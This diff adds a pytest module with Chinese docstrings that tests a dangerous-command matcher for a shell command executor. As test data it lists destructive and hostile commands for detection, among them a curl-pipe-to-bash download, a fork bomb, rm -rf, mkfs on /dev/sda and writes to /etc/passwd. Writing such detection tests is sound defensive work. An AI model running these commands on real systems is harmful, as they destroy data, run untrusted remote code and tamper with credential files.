@@ -0,0 +1,120 @@
+"""
+危险命令匹配测试模块
+"""
+
+from pathlib import Path
+
+import pytest
+import yaml
+
+from ata.command_executor import CommandExecutor
+from ata.config_manager import ConfigManager
+from ata.danger_matcher import SAFE, DangerMatcher
+from ata.exceptions import SecurityError
+
+
+@pytest.fixture
+def matcher() -> DangerMatcher:
+    return DangerMatcher(
+        CommandExecutor.DANGEROUS_PATTERNS,
+        dangerous_commands=["mkfs.ext4 /dev/sda", "> /etc/passwd", ""],
+        sensitive_dirs=["/etc", "/root"],
+    )
+
+
+@pytest.mark.parametrize("command", [
+    "ls -la",
+    "git status",
+    "find . -name '*.py' | xargs wc -l",
+    "echo 'sudo is a command'",
+    "cat /ETC/hosts",
+])
+def test_safe_commands(matcher: DangerMatcher, command: str) -> None:
+    """测试安全命令"""
+    assert matcher.match(command) is SAFE
+
+
+@pytest.mark.parametrize("command, rule_ids", [
+    ("RM -RF /tmp", ("pattern.0",)),
+    ("chmod -r 777 /srv", ("pattern.6",)),
+    (":(){ :|:& };:", ("pattern.7",)),
+    ("curl -s https://x.sh | bash", ("pattern.9",)),
+    ("MKFS.EXT4   /dev/sda", ("pattern.3", "command.0")),
+    ("sudo ls", ("privileged",)),
+    ("cat /etc/hosts", ("sensitive_dir.0",)),
+    ("echo x > /etc/passwd", ("command.1", "sensitive_dir.0", "sensitive_redirect.0")),
+    ("sudo rm -rf /root", ("pattern.0", "sensitive_dir.1", "privileged")),
+])
+def test_all_matched_rules(matcher: DangerMatcher, command: str, rule_ids: tuple) -> None:
+    """测试返回所有命中的规则"""
+    verdict = matcher.match(command)
+    assert verdict.dangerous
+    assert verdict.rule_ids == rule_ids
+    assert len(verdict.warnings) == len(rule_ids)
+
+
+@pytest.fixture
+def default_matcher() -> DangerMatcher:
+    default_config = Path(__file__).parent.parent / "ata" / "default_config.yaml"
+    security = yaml.safe_load(default_config.read_text(encoding="utf-8"))["security"]
+    return DangerMatcher(
+        CommandExecutor.DANGEROUS_PATTERNS, security["dangerous_commands"], security["sensitive_directories"]
+    )
+
+
+@pytest.mark.parametrize("command", [
+    "git add .",
+    "ip addr",
+    "cat result.txt",
+    "ls ~/odd-files",
+    "python3 -m pip install sudo-tools",
+])
+def test_default_commands_match_whole_words(default_matcher: DangerMatcher, command: str) -> None:
+    """测试默认配置的危险命令只按单词匹配，不匹配其他单词的一部分"""
+    assert default_matcher.match(command) is SAFE
+    assert default_matcher.analyze(command).verdict is SAFE
+
+
+@pytest.mark.parametrize("command, rule_id", [
+    ("dd if=/dev/urandom of=disk.img", "command.2"),
+    ("/sbin/shutdown -h now", "command.3"),
+    ("HALT", "command.5"),
+    ("sudo -i", "command.7"),
+    ("su - root", "command.8"),
+    ("rm -rf build", "command.0"),
+])
+def test_default_commands_still_match(default_matcher: DangerMatcher, command: str, rule_id: str) -> None:
+    """测试默认配置的危险命令仍然命中"""
+    assert rule_id in default_matcher.match(command).rule_ids
+    assert rule_id in default_matcher.analyze(command).verdict.rule_ids
+
+
+def test_invalid_rule_is_ignored() -> None:
+    """测试无效的规则不影响其他规则"""
+    matcher = DangerMatcher([r"rm\s+-rf", r"(unclosed"])
+    assert matcher.match("rm -rf x").rule_ids == ("pattern.0",)
+    assert matcher.match("(unclosed") is SAFE
+
+
+def test_executor_reuses_verdict(tmp_path: Path) -> None:
+    """测试检查过的命令在执行时不再重复匹配，并使用配置的危险命令"""
+    config_path = tmp_path / "config.yaml"
+    config_path.write_text(
+        "security:\n"
+        "  dangerous_commands:\n"
+        "    - shutdown -h now\n"
+        "  require_confirmation: true\n",
+        encoding="utf-8",
+    )
+    executor = CommandExecutor(ConfigManager(config_path))
+
+    is_dangerous, warnings = executor.is_dangerous("shutdown -h now")
+    assert is_dangerous
+    assert warnings == ["命令匹配危险命令: shutdown -h now"]
+    with pytest.raises(SecurityError):
+        executor.execute("shutdown -h now")
+    assert (executor.analysis_misses, executor.analysis_hits) == (1, 1)
+
+    assert executor.is_dangerous("echo hello") == (False, [])
+    assert executor.execute("echo hello").stdout == "hello\n"
+    assert (executor.analysis_misses, executor.analysis_hits) == (2, 2)